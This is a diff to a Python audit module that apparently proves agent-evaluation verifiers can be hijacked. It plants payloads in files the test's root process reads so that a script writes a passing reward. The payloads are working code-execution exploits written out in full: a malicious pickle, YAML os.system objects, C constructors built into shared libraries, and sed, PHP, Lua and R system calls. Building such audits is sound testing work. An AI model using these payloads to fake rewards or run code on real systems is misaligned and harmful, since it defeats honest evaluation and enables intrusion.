@@ -22,6 +22,7 @@ hand-off is reported as paid only when it pays.
 
 from __future__ import annotations
 
+import base64
 import json
 import posixpath
 import re
@@ -82,19 +83,23 @@ _INTERPRETERS = (  # (language, executable's name, the file names of its code)
 _VERB = {"sh": "sourced", "python": "imported", "make": "loaded as its Makefile"}
 
 
-def parse(lines: list[str]) -> tuple[list[Seen], list[str]]:
-    """The records, and what the watch said went wrong (it could not start)."""
-    seen, errors = [], []
+def parse(lines: list[str]) -> tuple[list[Seen], list[str], int]:
+    """The records, what the watch said went wrong (it could not start), and how many opens past its bound it did
+    not record (air/sandbox/warden/watch.py: MAX_RECORDS)."""
+    seen, errors, dropped = [], [], 0
     for line in lines:
         try:
             data = json.loads(line)
             if "error" in data:
                 errors.append(str(data["error"])[:300])
                 continue
+            if "dropped" in data:
+                dropped += int(data["dropped"])
+                continue
             seen.append(Seen(**data))
         except (ValueError, TypeError, ValidationError):
             continue
-    return seen, errors
+    return seen, errors, dropped
 
 
 def _language(exe: str, argv: list[str]) -> str | None:
@@ -135,6 +140,55 @@ def hand_offs(records: list[Seen], task_root: Path | None) -> tuple[list[HandOff
         by = shlex.join(seen.argv)[:200]
         found[rel] = HandOff(file=rel, how=how, lang=lang, by=by, blame=_blame(seen, rel, tests, how))
     return list(found.values()), [d for d in data if d not in found]
+
+
+MAX_ALONE = 4
+"""Files read by root proved one by one (a hack each, blamed on its own line); the rest together, MAX_GROUPED at
+most (past that the audit says what it did not follow)."""
+MAX_GROUPED = 200
+_KINDS = (  # a file's kind by its name, for a consumer the watch did not see (a copy's, a reader's)
+    ("pickle", r"\.(pkl|pickle|pck)$"),
+    ("yaml", r"\.ya?ml$"),
+    ("c", r"\.(c|cc|cpp|cxx|h|hpp)$"),
+    ("so", r"\.so(\.\d+)*$"),
+)
+_TOOLS = (("sed", r"g?sed"), ("c", r"cc1(plus)?|g?cc(-\d+)?|g\+\+(-\d+)?|c\+\+|clang(\+\+)?(-\d+)?|tcc"))
+
+
+def _kind(seen: Seen, rel: str) -> str:
+    """What a consumer of the file would run, by who opened it: an interpreter runs its language (a pickle or YAML
+    file opened by Python is its deserialiser's), sed a sed script, a compiler C; a file any other program read (a
+    copy, `cat ... | bash`) is judged by its name, else taken for shell text."""
+    names = {posixpath.basename(seen.exe), posixpath.basename(seen.argv[0]) if seen.argv else ""} - {""}
+    by_name = next((kind for kind, pattern in _KINDS if re.search(pattern, rel)), None)
+    lang = _language(seen.exe, seen.argv)
+    if lang == "python" and by_name in ("pickle", "yaml", "so"):
+        return by_name
+    if lang:
+        return lang
+    for kind, pattern in _TOOLS:
+        if any(re.fullmatch(pattern, n) for n in names):
+            return kind
+    if by_name:
+        return by_name
+    return next((lang for lang, _, ext in _INTERPRETERS if re.search(ext, rel)), "sh")
+
+
+def candidates(records: list[Seen], task_root: Path | None, found: list[HandOff]) -> list[HandOff]:
+    """Every other file of the agent's that a root process of the test opened (not only by its name's language):
+    each with the payload its plausible consumer would run (_kind), blamed on the test's line like a hand-off."""
+    tests = _test_lines(task_root)
+    handed = {h.file for h in found}
+    out: dict[str, HandOff] = {}
+    for seen in records:
+        if not seen.path.startswith(WORKSPACE + "/") or seen.uid != 0:
+            continue
+        rel = seen.path[len(WORKSPACE) + 1:]
+        if "__pycache__/" in rel or rel == PAY or rel in handed or rel in out:
+            continue
+        out[rel] = HandOff(file=rel, how="read", lang=_kind(seen, rel), by=shlex.join(seen.argv)[:200],
+                           blame=_blame(seen, rel, tests, "read"))
+    return list(out.values())
 
 
 def _test_lines(task_root: Path | None) -> list[tuple[str, int, str]]:
@@ -187,7 +241,38 @@ _PAYLOAD = {  # a line of the file's own language that runs the pay script as th
     "php": "<?php system('sh {pay}'); ?>",
     "lua": "os.execute('sh {pay}')",
     "r": "system('sh {pay}')",
+    "sed": "1e sh {pay}",
+    "c": '#include <stdlib.h>\n__attribute__((constructor)) static void air_watch_pay(void) {{ system("sh {pay}"); }}',
 }
+_WHOLE = {  # kinds whose payload is the whole file (a deserialiser's input)
+    "pickle": lambda pay: b"cos\nsystem\n(V" + f"sh {pay}".encode() + b"\ntR.",
+    "yaml": lambda pay: f'!!python/object/apply:os.system ["sh {pay}"]\n'.encode(),
+}
+_SO = ('printf \'#include <stdlib.h>\\n__attribute__((constructor)) static void air_watch_pay(void) '
+       '{{ system("sh %s"); }}\\n\' {pay} | cc -shared -fPIC -x c - -o {file} 2>/dev/null')
+"""A shared library whose constructor pays, where the agent's sandbox has a C compiler (none: not planted)."""
+_PLANT_PY = """plant_py() {  # FILE LINE: after the #! line, the encoding line and every `from __future__` import
+  mkdir -p "$(dirname "$1")" && touch "$1" && chmod u+w "$1" && [ -f "$1" ] || return 0
+  python3 - "$1" "$2" <<'AIR_PY'
+import sys
+path, line = sys.argv[1], sys.argv[2]
+lines = open(path, encoding="utf-8", errors="surrogateescape").read().splitlines(keepends=True)
+at, i = 0, 0
+while i < len(lines):
+    text = lines[i].strip()
+    if i == at and (text.startswith("#!") or (text.startswith("#") and "coding" in text)):
+        at = i + 1
+    elif text.startswith("from __future__ import"):
+        while "(" in lines[i] and ")" not in lines[i] and i + 1 < len(lines):
+            i += 1
+        at = i + 1
+    i += 1
+if at and not lines[at - 1].endswith("\\n"):
+    lines[at - 1] += "\\n"
+lines.insert(at, line + "\\n")
+open(path, "w", encoding="utf-8", errors="surrogateescape").write("".join(lines))
+AIR_PY
+}"""
 _PAY_SCRIPT = r"""#!/bin/sh
 pay() {
   echo 1 > /logs/verifier/reward.txt
@@ -204,32 +289,67 @@ exit 0
 """
 
 
-def hack_of(found: list[HandOff], data: list[str]) -> Hack:
-    """The hack that plants the payload in exactly the hand-offs (the script runs as the agent in its workspace)."""
-    pay = f"{WORKSPACE}/{PAY}"
-    script = _PAY_SCRIPT.replace("OUTPUTS", " ".join(shlex.quote(d) for d in data[:20])).replace("WS", WORKSPACE)
+def _planting(found: list[HandOff], data: list[str], workspace: str = WORKSPACE) -> list[str]:
+    """The shell lines (run as the agent in its workspace) that plant, in each file, its consumer's payload."""
+    pay = f"{workspace}/{PAY}"
+    script = _PAY_SCRIPT.replace("OUTPUTS", " ".join(shlex.quote(d) for d in data[:20])).replace("WS", workspace)
     lines = [f"cat > {PAY} <<'AIR_WATCH_EOF'\n{script}AIR_WATCH_EOF", f"chmod 755 {PAY}",
              "plant() {  # FILE LINE: LINE first (after a #! line), or the whole file when it is new",
-             '  mkdir -p "$(dirname "$1")" && touch "$1" && chmod u+w "$1"',
+             '  mkdir -p "$(dirname "$1")" && touch "$1" && chmod u+w "$1" && [ -f "$1" ] || return 0',
              '  { if head -c 2 "$1" | grep -q "#!"; then head -n 1 "$1"; printf "%s\\n" "$2"; tail -n +2 "$1";',
-             '    else printf "%s\\n" "$2"; cat "$1"; fi; } > /tmp/air-planted && cat /tmp/air-planted > "$1"', "}"]
+             '    else printf "%s\\n" "$2"; cat "$1"; fi; } > /tmp/air-planted && cat /tmp/air-planted > "$1"', "}",
+             _PLANT_PY]
     for h in found:
         f = shlex.quote(h.file)
         if h.lang == "exec":  # the kernel runs it: any program will do
             lines.append(f"rm -f {f}; mkdir -p \"$(dirname {f})\"; printf '#!/bin/sh\\nexec sh %s\\n' "
                          f"{shlex.quote(pay)} > {f} && chmod 755 {f}")
+        elif h.lang in _WHOLE:
+            coded = base64.b64encode(_WHOLE[h.lang](pay)).decode()
+            lines.append(f"[ -d {f} ] || {{ mkdir -p \"$(dirname {f})\"; rm -f {f}; "
+                         f"printf %s {coded} | base64 -d > {f}; }}")
+        elif h.lang == "so":
+            lines.append(f"[ -d {f} ] || {{ command -v cc > /dev/null && rm -f {f} && "
+                         f"{_SO.format(pay=shlex.quote(pay), file=f)}; }}")
         else:
-            lines.append(f"plant {f} {shlex.quote(_PAYLOAD[h.lang].format(pay=pay))}")
+            lines.append(f"{'plant_py' if h.lang == 'python' else 'plant'} {f} "
+                         f"{shlex.quote(_PAYLOAD[h.lang].format(pay=pay))}")
     lines.append("true")
-    return Hack(name=NAME, family="hijack-verifier", applies=["harbor"], script="\n".join(lines) + "\n",
+    return lines
+
+
+def hack_of(found: list[HandOff], data: list[str]) -> Hack:
+    """The hack that plants the payload in exactly the hand-offs (the script runs as the agent in its workspace)."""
+    lines = _planting(found, data)
+    return Hack(name=NAME, family="hijack-verifier", applies=["harbor"], script="\n".join(lines) + "\n", races=True,
                 summary="Plant, in exactly the files the task's test was seen handing control to (executed, "
                         "sourced, imported, loaded), a payload in the language that ran them that writes both "
                         "reward files, keeps rewriting them and copies the tests' files over the outputs.",
                 watched=[h.blame for h in found])
 
 
+def candidate_hacks(read: list[HandOff], data: list[str], workspace: str = WORKSPACE) -> tuple[list[Hack], int]:
+    """The proof for the files root read: the first MAX_ALONE each alone (a hack each, blamed on its own line), the
+    next MAX_GROUPED together; and how many were past those (not planted: the audit says so). `workspace`: where
+    the payloads find the pay script (the sandbox's; another only to try them elsewhere)."""
+    groups = [[c] for c in read[:MAX_ALONE]]
+    if read[MAX_ALONE:]:
+        groups.append(read[MAX_ALONE:MAX_ALONE + MAX_GROUPED])
+    hacks = []
+    for n, group in enumerate(groups, 1):
+        name = f"{NAME}-read-{n}" if len(group) == 1 and n <= MAX_ALONE else f"{NAME}-read-rest"
+        what = group[0].file if len(group) == 1 else f"{len(group)} files"
+        hacks.append(Hack(name=name, family="hijack-verifier", applies=["harbor"],
+                          script="\n".join(_planting(group, data, workspace)) + "\n",
+                          watched=[h.blame for h in group],
+                          summary=f"Plant, in {what} that a root process of the test read, the payload its "
+                                  "plausible consumer runs (by who opened it: an interpreter's language, a sed "
+                                  "script, a pickle, a YAML object, C source, a shared library; a copy's by name)."))
+    return hacks, max(0, len(read) - MAX_ALONE - MAX_GROUPED)
+
+
 def report(found: list[HandOff]) -> list[str]:
     return [f"{h.file} ({h.how}): {h.blame}" for h in found]
 
 
-__all__ = ["NAME", "HandOff", "Seen", "hack_of", "hand_offs", "parse", "report"]
+__all__ = ["NAME", "HandOff", "Seen", "candidate_hacks", "candidates", "hack_of", "hand_offs", "parse", "report"]
